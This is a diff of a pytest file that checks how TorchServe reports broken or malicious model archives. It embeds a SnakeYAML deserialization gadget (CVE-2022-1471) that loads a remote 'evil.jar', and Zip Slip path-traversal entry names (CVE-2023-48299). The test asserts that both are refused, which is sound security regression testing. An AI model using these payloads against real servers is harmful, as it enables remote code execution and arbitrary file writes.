@@ -13,6 +13,7 @@ import zipfile
 from collections.abc import Iterator
 from contextlib import ExitStack, contextmanager, suppress
 from pathlib import Path
+from typing import Any
 
 import psutil
 import pytest
@@ -48,58 +49,81 @@ def test_a_taken_port_is_named(tmp_path: Path) -> None:
         Server(tmp_path, live.STORE, ports).start()
 
 
+ONNX = {"handler": {"backend": "onnx"}}
 GADGET = (  # CVE-2022-1471: YAML that asks SnakeYAML to make Java objects
     "minWorkers: 1\nmaxWorkers: 1\nhandler: !!javax.script.ScriptEngineManager "
     '[!!java.net.URLClassLoader [[!!java.net.URL ["http://{host}/evil.jar"]]]]\n'
 )
+LIGHT = {"generator.onnx": None, "generator.pt": None}
 OUT = {  # CVE-2023-48299: names that climb out of the folder that an archive is unpacked in
     f"{'../' * up}dcgan-evil-{up}": b"evil" for up in range(1, 12)
 }
-SAID = (
-    r"backend is 'tensorrt': Input should be .*torchscript",
-    r"Failed to load model: way-out\.mar.*Detected Zip Slip",
-    r"Failed to parse model config file",
-)
+# name: (changes beside those of LIGHT, what is said)
+BROKEN: dict[str, tuple[dict[str, Any], str]] = {
+    "no-model": ({"config": ONNX}, r"no generator\.onnx"),
+    "no-card": ({"files": {"card.json": None}}, r"cannot use card\.json of the archive"),
+    "corrupt": (
+        {"files": {"generator.onnx": b"broken"}, "config": ONNX},
+        r"generator\.onnx is not a usable ONNX file"),
+    "setting": (
+        {"config": {"handler": {"backend": "tensorrt"}}},
+        r"backend is 'tensorrt': Input should be .*torchscript"),
+    "precision": (
+        {"config": {"handler": {"backend": "onnx", "precision": "bfloat16"}}},
+        r"the backend onnx is for float32, not for bfloat16.*torchscript"),
+    "way-out": ({"files": OUT}, r"Failed to load model: way-out\.mar.*Detected Zip Slip"),
+    "java": ({}, r"Failed to parse model config file"),
+}  # fmt: skip
 
 
-def test_what_is_wrong_with_archives_is_said(tmp_path: Path) -> None:
-    """By one TorchServe that is given all of them, each as a version of the model. What else a
-    handler may refuse goes the way of the wrong setting."""
-    light: dict[live.Entry, bytes | None] = {"generator.onnx": None, "generator.pt": None}
-    wrong = {"handler": {"backend": "tensorrt"}}
+@pytest.fixture(scope="module")
+def reasons(tmp_path_factory: pytest.TempPathFactory) -> Iterator[list[str]]:
+    """What one TorchServe says that is given all of them, each as a version of the model."""
+    folder = tmp_path_factory.mktemp("broken")
     with live.listener() as (host, opened):
-        java = {"model-config.yaml": GADGET.format(host=host).encode()}
-        edited_archive(tmp_path / "setting.mar", light, wrong, {"modelVersion": "setting"})
-        edited_archive(tmp_path / "way-out.mar", light | OUT, None, {"modelVersion": "way-out"})
-        edited_archive(tmp_path / "java.mar", light | java, None, {"modelVersion": "java"})
-        others = ("way-out.mar", "java.mar")
+        for name, (changes, _) in BROKEN.items():
+            files = {**LIGHT, **changes.get("files", {})}
+            if name == "java":
+                files["model-config.yaml"] = GADGET.format(host=host).encode()
+            edited_archive(
+                folder / f"{name}.mar", files, changes.get("config"), {"modelVersion": name}
+            )
+        first, *others = (f"{name}.mar" for name in BROKEN)
         server = Server(
-            tmp_path / "server", tmp_path, Ports.free(), "setting.mar", other_archives=others
+            folder / "server", folder, Ports.free(), archive=first, other_archives=tuple(others)
         )
 
-        def unsaid() -> list[str]:
-            lines = telling(server.log.read_text(encoding="utf-8"), count=10_000)
-            return [words for words in SAID if not any(re.search(words, line) for line in lines)]
+        def said() -> list[str]:
+            return telling(server.log.read_text(encoding="utf-8"), count=10_000)
 
         with started(server) as process:
             with pytest.raises(ServerError, match=r"model failed to load(?s:.*)The whole log: "):
                 server.wait_until_ready(process, 90)
+            # One that is never said is told by its own test.
             with suppress(AssertionError):
-                live.wait(lambda: not unsaid(), 90)
-            assert unsaid() == []
+                live.wait(lambda: all(found(words, said()) for _, words in BROKEN.values()), 90)
+        yield said()
         assert opened.connections == 0
     inside = server.folder / "tmp" / "models"
-    written = [p for p in tmp_path.rglob("dcgan-evil*") if not p.is_relative_to(inside)]
+    written = [p for p in folder.rglob("dcgan-evil*") if not p.is_relative_to(inside)]
     assert written == []
-    assert not [p for up in tmp_path.parents for p in up.glob("dcgan-evil*")]
+    assert not [p for up in folder.parents for p in up.glob("dcgan-evil*")]
+
+
+def found(words: str, lines: list[str]) -> bool:
+    return any(re.search(words, line) for line in lines)
+
+
+@pytest.mark.parametrize("name", BROKEN)
+def test_what_is_wrong_with_an_archive_is_said(reasons: list[str], name: str) -> None:
+    assert found(BROKEN[name][1], reasons)
 
 
 def test_a_worker_without_the_gpu_that_it_is_given(tmp_path: Path) -> None:
     """TorchServe counts one GPU and gives it to the workers; there is none for a runtime to use."""
     allowed = {"handler": {"backend": "onnx", "allow_cpu_fallback": True}}
     edited_archive(tmp_path / "dcgan.mar", config=allowed)
-    refused = {"handler": {"backend": "onnx"}}
-    edited_archive(tmp_path / "refused.mar", config=refused, manifest={"modelVersion": "refused"})
+    edited_archive(tmp_path / "refused.mar", config=ONNX, manifest={"modelVersion": "refused"})
     hidden = (("CUDA_VISIBLE_DEVICES", "-1"),)
     others = ("refused.mar",)
     server = Server(
